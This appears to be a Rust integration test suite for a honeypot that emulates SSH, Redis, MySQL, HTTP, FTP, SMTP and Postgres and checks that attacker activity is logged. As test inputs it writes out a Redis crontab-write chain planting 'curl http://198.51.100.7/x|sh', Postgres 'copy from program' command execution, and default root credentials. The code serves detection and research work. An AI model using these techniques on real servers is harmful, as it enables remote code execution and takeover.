//! Each service with its own client: what the client sees and what is stored agree.

use crate::fleet::{Fleet, client, have, printed};

const SSH: &[&str] =
    &["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"];

fn ssh(port: &str, target: &str, rest: &[&str]) -> String {
    let mut arguments = vec!["-p", "toor", "ssh", "-p", port];
    arguments.extend(SSH);
    arguments.push(target);
    arguments.extend(rest);
    printed(&client("sshpass", &arguments))
}

#[test]
fn ssh_runs_commands_keeps_files_and_records_what_was_typed() {
    if !have("sshpass", "sshpass") || !have("scp", "openssh-client") {
        return;
    }
    let fleet = Fleet::deploy(81, "accept-after=1");
    let target = format!("root@{}", fleet.ip(0));
    let seen = ssh("10022", &target, &["uname -s; id -u; echo kept > /tmp/mark"]);
    assert_eq!(seen, "Linux\n0\n");
    assert_eq!(ssh("10022", &target, &["cat /tmp/mark"]), "kept\n");
    fleet.wait_for_text("command", "command", "uname -s; id -u");
    fleet.wait_for_text("auth_attempt", "secret_printable", "toor");

    let folder = tempfile::tempdir().unwrap();
    let payload: Vec<u8> = (0..=255).cycle().take(50_000).collect();
    let file = folder.path().join("payload.bin");
    std::fs::write(&file, &payload).unwrap();
    let mut arguments = vec!["-p", "toor", "scp", "-P", "10022"];
    arguments.extend(SSH);
    let remote = format!("{target}:/root/payload.bin");
    arguments.extend([file.to_str().unwrap(), &remote]);
    let copied = client("sshpass", &arguments);
    assert!(copied.status.success(), "{}", printed(&copied));
    let captured = fleet.wait_for_text("file_captured", "path", "/root/payload.bin");
    assert_eq!(fleet.artefact(captured["fields"]["sha256"].as_str().unwrap()), payload);
}

#[test]
fn redis_takes_the_crontab_chain_and_keeps_the_dump() {
    if !have("redis-cli", "redis-tools") {
        return;
    }
    let fleet = Fleet::deploy(82, "deny");
    let ip = fleet.ip(0);
    let redis = |words: &[&str]| {
        let mut arguments = vec!["-h", &ip, "-p", "16379"];
        arguments.extend(words);
        printed(&client("redis-cli", &arguments)).trim().to_owned()
    };
    assert_eq!(redis(&["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"]), "OK");
    assert_eq!(redis(&["CONFIG", "SET", "dbfilename", "root"]), "OK");
    assert_eq!(redis(&["SET", "x", "\n* * * * * curl http://198.51.100.7/x|sh\n"]), "OK");
    assert_eq!(redis(&["SAVE"]), "OK");
    let captured = fleet.wait_for_text("file_captured", "path", "/var/spool/cron/crontabs/root");
    let dump = fleet.artefact(captured["fields"]["sha256"].as_str().unwrap());
    assert!(dump.windows(30).any(|window| window == b"curl http://198.51.100.7/x|sh\n"));
}

#[test]
fn mysql_answers_its_client_and_stores_the_query() {
    if !have("mariadb", "mariadb-client") {
        return;
    }
    let fleet = Fleet::deploy(83, "accept-after=1");
    let arguments = [
        "-h",
        &fleet.ip(0),
        "-P",
        "13306",
        "-uroot",
        "-ptoor",
        "-N",
        "-e",
        "select 1+0 as one; show databases",
    ];
    let seen = printed(&client("mariadb", &arguments));
    assert!(seen.contains("information_schema"), "{seen}");
    fleet.wait_for_text("query", "query", "show databases");
}

#[test]
fn http_ftp_and_smtp_serve_their_clients() {
    if !have("curl", "curl") || !have("swaks", "swaks") {
        return;
    }
    let fleet = Fleet::deploy(84, "accept-after=1");
    let ip = fleet.ip(0);
    let page = printed(&client("curl", &["-si", &format!("http://{ip}:10080/no-such-page")]));
    // What an application says of it depends on the persona: not found, or to log in first.
    assert!(page.starts_with("HTTP/1.1 404") || page.starts_with("HTTP/1.1 302"), "{page}");
    assert!(page.contains("\r\nServer: "), "{page}");
    fleet.wait_for_text("request", "target", "/no-such-page");

    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("drop.txt");
    std::fs::write(&file, "uploaded by ftp").unwrap();
    let url = format!("ftp://{ip}:10021//tmp/drop.txt");
    let sent = client("curl", &["-sS", "-T", file.to_str().unwrap(), "-u", "backup:toor", &url]);
    assert!(sent.status.success(), "{}", printed(&sent));
    let captured = fleet.wait_for_text("file_captured", "path", "drop.txt");
    assert_eq!(fleet.artefact(captured["fields"]["sha256"].as_str().unwrap()), b"uploaded by ftp");

    // The same client over TLS is told by its hello, whoever asks it for which name.
    let url = format!("ftp://{ip}:10021/");
    client("curl", &["-sk", "--max-time", "20", "--ssl-reqd", "--user", "a:b", &url]);
    let told = fleet.wait_for_text("tls_handshake", "outcome", "completed");
    let ja4 = told["fields"]["ja4"].as_str().unwrap();
    assert!(ja4.starts_with("t13i") && ja4.len() == 36, "{told:#}");
    assert_eq!(told["fields"]["ja3"].as_str().unwrap().len(), 32, "{told:#}");

    let server = format!("{ip}:10025");
    let mail = client(
        "swaks",
        &[
            "--server",
            &server,
            "--to",
            "root@localhost",
            "--from",
            "a@example.net",
            "--auth-user",
            "root",
            "--auth-password",
            "mail-secret",
            "--auth",
            "PLAIN",
        ],
    );
    let dialogue = printed(&mail);
    assert!(dialogue.contains("250"), "{dialogue}");
    fleet.wait_for("auth_attempt", |events| {
        events.iter().any(|event| event["fields"]["secret_printable"] == "mail-secret").then_some(())
    });
}

#[test]
fn nmap_names_the_products() {
    if !have("nmap", "nmap") {
        return;
    }
    let fleet = Fleet::deploy(86, "deny");
    let seen = printed(&client(
        "nmap",
        &["-Pn", "-sT", "-sV", "--version-intensity", "5", "-p", "10022,16379,13306", &fleet.ip(0)],
    ));
    for product in ["OpenSSH 9.2p1 Debian", "Redis", "MySQL"] {
        assert!(seen.contains(product), "{product} is not in {seen}");
    }
}

#[test]
fn postgres_answers_psql_and_keeps_what_a_copy_runs() {
    if !have("psql", "postgresql-client") {
        return;
    }
    let fleet = Fleet::deploy_services(87, "accept-after=1", 1, &[], "postgres");
    let target = format!("postgresql://postgres:letmein@{}:15432/postgres", fleet.ip(0));
    let psql = |statement: &str| printed(&client("psql", &["-X", "-At", "-c", statement, &target]));
    let seen = psql("select current_user");
    assert_eq!(seen, "postgres\n");
    fleet.wait_for("auth_attempt", |events| {
        let md5 = |event: &serde_json::Value| event["fields"]["secret_kind"] == "postgres_md5_challenge";
        events.iter().any(md5).then_some(())
    });
    assert!(psql("\\l").contains("template1|postgres|UTF8"), "{}", psql("\\l"));
    psql("create table cmd_exec (cmd_output text)");
    assert_eq!(psql("copy cmd_exec from program 'id -un'"), "COPY 1\n");
    assert_eq!(psql("select * from cmd_exec"), "postgres\n");
    fleet.wait_for_text("command", "command", "id -un");
    fleet.wait_for_text("exploit_attempt", "technique", "postgres copy program");
}
